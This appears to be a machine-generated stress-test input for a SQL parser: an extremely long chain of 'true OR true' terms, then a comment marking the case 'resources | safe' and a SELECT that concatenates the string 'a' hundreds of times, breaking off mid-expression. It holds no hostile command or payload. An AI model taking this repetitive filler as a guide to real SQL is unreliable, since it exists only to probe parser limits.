true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true

-- resources | safe
SELECT 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 